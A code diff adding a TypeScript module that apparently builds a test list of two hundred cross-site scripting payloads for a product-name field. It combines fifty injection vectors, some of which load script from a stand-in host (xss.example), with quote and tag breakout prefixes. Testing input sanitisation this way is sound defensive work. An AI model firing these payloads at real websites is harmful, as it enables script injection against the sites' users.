@@ -1,0 +1,61 @@
+/** Ways to get a script run; each calls `xss`, which nobody but a watcher defines. */
+const vectors = [
+  '<script>xss()</script>',
+  '<script src=//xss.example/x.js></script>',
+  '<script/x>xss()</script>',
+  '<svg onload=xss()>',
+  '<svg/onload=xss()//',
+  '<svg><script>xss()</script></svg>',
+  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
+  '<svg><set onbegin=xss() attributeName=x>',
+  '<svg><a xlink:href="javascript:xss()"><text y=9>x</text></a></svg>',
+  '<img src=x onerror=xss()>',
+  '<img src="x" onerror="xss()">',
+  '<img/src=x/onerror=xss()>',
+  '<img src=x:x onerror=xss()//',
+  '<image src=x onerror=xss()>',
+  '<body onload=xss()>',
+  '<iframe src="javascript:xss()"></iframe>',
+  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
+  '<object data="javascript:xss()"></object>',
+  '<embed src="javascript:xss()">',
+  '<a href="javascript:xss()">x</a>',
+  '<a href="jAvAsCrIpT:xss()">x</a>',
+  '<a href="java&#09;script:xss()">x</a>',
+  '<a href="data:text/html,<script>xss()</script>">x</a>',
+  '<form action="javascript:xss()"><button>x</button></form>',
+  '<button formaction="javascript:xss()">x</button>',
+  '<input autofocus onfocus=xss()>',
+  '<select autofocus onfocus=xss()>',
+  '<textarea autofocus onfocus=xss()>',
+  '<video><source onerror=xss()>',
+  '<video src=x onerror=xss()></video>',
+  '<audio src=x onerror=xss()>',
+  '<details open ontoggle=xss()>x</details>',
+  '<marquee onstart=xss()>x</marquee>',
+  '<div style="animation-name:x" onanimationstart=xss()>x</div>',
+  '<div popover id=p onbeforetoggle=xss()>x</div>',
+  '<div contenteditable onblur=xss() tabindex=1 autofocus>x</div>',
+  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
+  '<base href="//xss.example/">',
+  '<link rel=stylesheet href="//xss.example/x.css">',
+  '<style>@import "//xss.example/x.css"</style>',
+  '<math><mtext><style><img src=x onerror=xss()>',
+  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
+  '<template><script>xss()</script></template>',
+  '<!--><img src=x onerror=xss()>-->',
+  '<![CDATA[><img src=x onerror=xss()>]]>',
+  '{{constructor.constructor("xss()")()}}',
+  'javascript:xss()',
+  '&lt;script&gt;xss()&lt;/script&gt;',
+  '&#60;script&#62;xss()&#60;/script&#62;',
+  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
+] as const
+
+/** Out of an attribute in double or single quotes, and out of a script or a title. */
+const breakouts = ['', '">', "'>", '</script></title></textarea>'] as const
+
+/** Two hundred of them, none longer than a product's name may be, the short ones first. */
+export const scriptPayloads: readonly string[] = breakouts
+  .flatMap((breakout) => vectors.map((vector) => breakout + vector))
+  .toSorted((a, b) => a.length - b.length)
